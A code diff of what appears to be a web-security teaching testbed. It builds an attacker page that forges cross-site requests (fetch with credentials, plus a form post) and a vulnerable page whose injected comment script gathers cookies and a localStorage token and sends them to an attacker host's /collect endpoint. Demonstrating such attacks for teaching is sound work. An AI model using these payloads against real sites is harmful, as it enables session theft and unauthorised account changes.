@@ -1,33 +1,25 @@
 import { randomBytes } from 'node:crypto'
-
-/** A page without any of the application's code, and the only policy under which it works. */
-export interface Html {
-  readonly text: string
-  readonly policy: string
-}
+import type { Html, Scene } from '../scene'
 
 /** WEAK. A page of the attacker's site. Nothing happens before a button is pressed. */
-export function attackerPage({ site, path }: { readonly site: string; readonly path: string }): Html {
-  const target = `${site}${path}/name`
-  // As text/plain a form can send JSON, and neither way needs the target's consent (CORS).
-  const script = `await fetch('${target}', {
+export function attackerPage({ site, path }: Scene): Html {
+  const target = (how: string) => `${site}${path}/name/Changed%20by%20a%20${how}`
+  // Neither way needs the target's consent (CORS).
+  const script = `await fetch('${target('script')}', {
   method: 'POST',
   mode: 'no-cors',
   credentials: 'include',
-  body: '{"name":"Changed by a script"}',
 })`
   return page(
     {
       title: "The attacker's page",
-      says: `This page belongs to the attacker. To your browser it is another site than ${site}, where you are signed in to the arena. It asks your browser to send a request there.`,
+      says: `This page belongs to the attacker. To your browser it is another site than ${site}, where you are signed in to the testbed. It asks your browser to send a request there.`,
       policy: `connect-src ${site}; form-action ${site}`,
     },
     (nonce) => `
 <h2>With a form</h2>
-<pre>POST ${target}
-{"name":"Changed by a form"}</pre>
-<form method="post" action="${target}" enctype="text/plain">
-<input type="hidden" name='{"name":"Changed by a form","x":"' value='"}'>
+<pre>POST ${target('form')}</pre>
+<form method="post" action="${target('form')}">
 <button>Attack with the form</button>
 </form>
 <p>The browser goes there and shows what the server answers.</p>
@@ -50,9 +42,9 @@ said.textContent = 'The browser did not send it.'
   )
 }
 
-/** WEAK. A page of the arena's own site that shows what somebody else wrote, without escaping it. */
-export function woundedPage({ path, prefix, attacker }: { readonly path: string; readonly prefix: string; readonly attacker: string }): Html {
-  // Only this arena's: a real script would take everything.
+/** WEAK. A page of the testbed's own site that shows what somebody else wrote, without escaping it. */
+export function woundedPage({ path, prefix, attacker }: Scene): Html {
+  // Only this testbed's: a real script would take everything.
   const script = `const cookies = document.cookie.split('; ')
   .filter((pair) => pair.startsWith('${prefix}')).join('; ')
 const token = localStorage.getItem('${prefix}token')
@@ -63,8 +55,8 @@ await fetch('${attacker}${path}/collect', {
 })`
   return page(
     {
-      title: "A page of the arena, with an attacker's script",
-      says: 'This page belongs to the site where you are signed in to the arena. It shows a comment that somebody left, and the comment is a script. It waits for you to press the button; a real one would not.',
+      title: "A page of the testbed, with an attacker's script",
+      says: 'This page belongs to the site where you are signed in to the testbed. It shows a comment that somebody left, and the comment is a script. It waits for you to press the button; a real one would not.',
       policy: `connect-src ${attacker}`,
     },
     (nonce) => `
